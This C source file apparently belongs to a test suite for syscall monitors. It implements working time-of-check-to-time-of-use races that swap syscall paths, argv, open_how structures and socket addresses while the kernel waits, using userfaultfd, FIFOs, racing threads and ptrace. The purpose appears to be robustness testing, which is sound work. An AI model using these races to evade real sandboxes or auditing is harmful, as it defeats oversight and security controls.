// SPDX-License-Identifier: Apache-2.0

/*
 * Arguments that change while the kernel works: whoever reads them before or after the call sees
 * something else than what was done.  Nothing here depends on who is faster: the change is made
 * while the call provably waits.
 */
#include "attacks.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE        4096
#define RACE_OPENS  400
#define TRACED_CALL 0x80 /* PTRACE_O_TRACESYSGOOD */
#define DECOY       "/etc/hostname-decoy"

/* A page that is not there, and what happens when somebody needs it. */
struct trap {
	int uffd;
	char *page; /* faults */
	char *fill; /* what will be in it */
	char *text; /* gets another content first */
	const char *real;
	pthread_t thread;
};

static void *spring(void *arg)
{
	struct trap *trap = arg;
	struct uffd_msg msg;
	struct uffdio_copy copy = { .len = PAGE };

	if (read(trap->uffd, &msg, sizeof(msg)) != sizeof(msg))
		return NULL;
	(void)strcpy(trap->text, trap->real);
	copy.dst = (uintptr_t)trap->page;
	copy.src = (uintptr_t)trap->fill;
	(void)ioctl(trap->uffd, UFFDIO_COPY, &copy);
	return NULL;
}

static int set_trap(struct trap *trap, char *text, const char *real)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register range = { .mode = UFFDIO_REGISTER_MODE_MISSING };

	trap->uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	if (trap->uffd < 0)
		return errno == EPERM ? skip("userfaultfd is not allowed") : failure();
	trap->page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	trap->fill = aligned_alloc(PAGE, PAGE);
	if (trap->page == MAP_FAILED || !trap->fill)
		return -ENOMEM;
	memset(trap->fill, 0, PAGE);
	trap->text = text;
	trap->real = real;
	range.range.start = (uintptr_t)trap->page;
	range.range.len = PAGE;
	if (ioctl(trap->uffd, UFFDIO_API, &api) || ioctl(trap->uffd, UFFDIO_REGISTER, &range))
		return -errno;
	return -pthread_create(&trap->thread, NULL, spring, trap);
}

/* The structure behind the path faults, and the path is another when the kernel gets to it. */
static int toctou_openat2_uffd(int argc, char **argv)
{
	static char path[PAGE] = DECOY;
	struct open_how how = { .flags = O_RDONLY };
	struct trap trap;
	int err = set_trap(&trap, path, argv[1]);

	(void)argc;
	if (err)
		return err;
	memcpy(trap.fill, &how, sizeof(how));
	return is_file((int)syscall(SYS_openat2, AT_FDCWD, path, trap.page, sizeof(how)), argv[1]);
}

/* toctou_exec_argv MARK REAL: the vector faults, and its last string is another. */
static int toctou_exec_argv(int argc, char **argv)
{
	static char last[256] = "harmless";
	pid_t pid = fork();
	int err;

	(void)argc;
	if (pid == 0) {
		struct trap trap;
		char **vector;
		char **from = payload_argv(argv[0]);

		err = set_trap(&trap, last, argv[1]);
		if (err)
			_exit(err == SKIPPED ? SKIPPED : 1);
		vector = (char **)(void *)trap.fill;
		for (int i = 0; i < 3; i++)
			vector[i] = from[i];
		vector[3] = last;
		(void)execv(self_path(), (char **)(void *)trap.page);
		_exit(1);
	}
	return payload_ended(pid);
}

static void ignore(int signal)
{
	(void)signal;
}

struct waiting_connect {
	int fd;
	pthread_t main;
	struct sockaddr_in *address;
};

static void *change_address(void *arg)
{
	struct waiting_connect *call = arg;
	struct tcp_info info = { 0 };
	socklen_t len = sizeof(info);

	do {
		len = sizeof(info);
		if (getsockopt(call->fd, IPPROTO_TCP, TCP_INFO, &info, &len))
			return NULL;
	} while (info.tcpi_state != TCP_SYN_SENT);
	(void)inet_pton(AF_INET, "127.0.0.1", &call->address->sin_addr);
	call->address->sin_port = htons(9);
	while (!pthread_kill(call->main, SIGUSR1) && call->fd >= 0)
		(void)usleep(1000);
	return NULL;
}

/* toctou_connect MARK IP PORT: nobody answers there, so that the call waits. */
static int toctou_connect(int argc, char **argv)
{
	struct sigaction action = { .sa_handler = ignore };
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct waiting_connect call = { socket(AF_INET, SOCK_STREAM, 0), pthread_self(), &to };
	pthread_t thread;
	int err;

	(void)argc;
	to.sin_port = htons((uint16_t)atoi(argv[2]));
	if (call.fd < 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
	    sigaction(SIGUSR1, &action, NULL) ||
	    pthread_create(&thread, NULL, change_address, &call))
		return -EINVAL;
	err = connect(call.fd, (struct sockaddr *)&to, sizeof(to)) ? errno : 0;
	call.fd = -1;
	(void)pthread_join(thread, NULL);
	return err == EINTR && to.sin_port == htons(9) ? 0 : -(err ? err : EISCONN);
}

struct waiting_open {
	pid_t tid;
	char *path;
	const char *real;
};

/* Does the thread sleep in its call? */
static int is_asleep(pid_t tid)
{
	char name[64];
	char text[256] = "";
	const char *state;
	int fd;

	(void)snprintf(name, sizeof(name), "/proc/self/task/%d/stat", tid);
	fd = open(name, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	(void)!read(fd, text, sizeof(text) - 1);
	(void)close(fd);
	state = strrchr(text, ')');
	return state && state[1] == ' ' && state[2] == 'S';
}

static void *change_path(void *arg)
{
	struct waiting_open *call = arg;
	int fd;

	while (!is_asleep(call->tid))
		(void)sched_yield();
	(void)strcpy(call->path, DECOY);
	fd = open(call->real, O_WRONLY | O_CLOEXEC);
	(void)close(fd);
	return NULL;
}

/* toctou_open_fifo MARK FIFO: it opens when somebody writes; by then the name is another. */
static int toctou_open_fifo(int argc, char **argv)
{
	static char path[PAGE];
	struct waiting_open call = { (pid_t)syscall(SYS_gettid), path, argv[1] };
	pthread_t thread;
	int fd;

	(void)argc;
	(void)unlink(argv[1]);
	if (mkfifo(argv[1], 0600))
		return -errno;
	(void)strcpy(path, argv[1]);
	if (pthread_create(&thread, NULL, change_path, &call))
		return -EAGAIN;
	fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY, 0);
	(void)pthread_join(thread, NULL);
	return strcmp(path, DECOY) ? -EINVAL : is_file(fd, argv[1]);
}

static char raced_path[PAGE];
static volatile int race_over;

static void *flip(void *real)
{
	while (!race_over) {
		(void)strcpy(raced_path, real);
		(void)strcpy(raced_path, "/");
	}
	return NULL;
}

/* A thread flips the name all the time; some of the opens meet the file. */
static int toctou_openat_threads(int argc, char **argv)
{
	struct stat wanted;
	pthread_t thread;
	int hits = 0;

	(void)argc;
	if (stat(argv[1], &wanted) || pthread_create(&thread, NULL, flip, argv[1]))
		return -errno;
	for (int i = 0; i < RACE_OPENS || !hits; i++) {
		struct stat st;
		int fd = (int)syscall(SYS_openat, AT_FDCWD, raced_path, O_RDONLY, 0);

		if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino == wanted.st_ino)
			hits++;
		(void)close(fd);
	}
	race_over = 1;
	(void)pthread_join(thread, NULL);
	return hits ? 0 : -EAGAIN;
}

/* toctou_coldpage MARK FILE STORE: the name lies in a page of a file that nobody has touched. */
static int toctou_coldpage(int argc, char **argv)
{
	int err = write_file(argv[2], argv[1]);
	int fd = open(argv[2], O_RDWR | O_CLOEXEC);
	char *cold;

	(void)argc;
	if (err || fd < 0 || ftruncate(fd, PAGE))
		return err ? err : -errno;
	cold = mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd, 0);
	if (cold == MAP_FAILED)
		return -errno;
	return is_file((int)syscall(SYS_openat, AT_FDCWD, cold, O_RDONLY, 0), argv[1]);
}

/* One page that tracer and tracee see alike: the name in it, and nobody is written into. */
static int open_traced(char *path)
{
	int fd;

	(void)strcpy(path, DECOY);
	if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) || raise(SIGSTOP))
		return -errno;
	fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY, 0);
	if (fd < 0)
		return -errno;
	if (strcmp(path, DECOY) != 0)
		return -EINVAL; /* it should look as if nothing had happened */
	return is_file(fd, path + PAGE / 2);
}

/* At the entry of the call the name is the real one, at its exit the decoy again. */
static int swap_name(pid_t pid, char *path, const char *real)
{
	struct __ptrace_syscall_info info = { 0 };

	if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, (void *)sizeof(info), &info) <= 0)
		return -errno;
	if (info.op == PTRACE_SYSCALL_INFO_ENTRY && info.entry.nr == SYS_openat &&
	    info.entry.args[1] == (uintptr_t)path)
		(void)strcpy(path, real);
	else if (info.op == PTRACE_SYSCALL_INFO_EXIT)
		(void)strcpy(path, DECOY);
	return 0;
}

/* Trace it to its end: its exit status, or -errno. */
static int trace_open(pid_t pid, char *path, const char *real)
{
	int status;
	int err = 0;

	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) {
		if (WSTOPSIG(status) == SIGSTOP)
			err = ptrace(PTRACE_SETOPTIONS, pid, NULL,
				     (void *)(PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL)) ?
				      -errno :
				      0;
		else if (WSTOPSIG(status) == (SIGTRAP | TRACED_CALL))
			err = swap_name(pid, path, real);
		if (err || ptrace(PTRACE_SYSCALL, pid, NULL, NULL)) {
			err = err ? err : -errno;
			(void)kill(pid, SIGKILL);
			(void)wait_status(pid);
			return err;
		}
	}
	return WIFEXITED(status) ? WEXITSTATUS(status) : -EINTR;
}

/* toctou_ptrace MARK REAL: a tracer gives the call another name for as long as it runs. */
static int toctou_ptrace(int argc, char **argv)
{
	char *path = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	int status;
	pid_t pid;

	(void)argc;
	if (path == MAP_FAILED || strlen(argv[1]) >= PAGE / 2)
		return -EINVAL;
	(void)strcpy(path + PAGE / 2, argv[1]);
	pid = fork();
	if (pid == 0)
		_exit(-open_traced(path));
	status = trace_open(pid, path, argv[1]);
	if (status == -EIO || status == -ENOSYS)
		return skip("no PTRACE_GET_SYSCALL_INFO");
	return status < 0 ? status : -status;
}

const struct attack toctou_attacks[] = {
	{ "toctou_openat2_uffd", 1, toctou_openat2_uffd },
	{ "toctou_exec_argv", 1, toctou_exec_argv },
	{ "toctou_connect", 2, toctou_connect },
	{ "toctou_open_fifo", 1, toctou_open_fifo },
	{ "toctou_openat_threads", 1, toctou_openat_threads },
	{ "toctou_coldpage", 2, toctou_coldpage },
	{ "toctou_ptrace", 1, toctou_ptrace },
	{ NULL, 0, NULL },
};
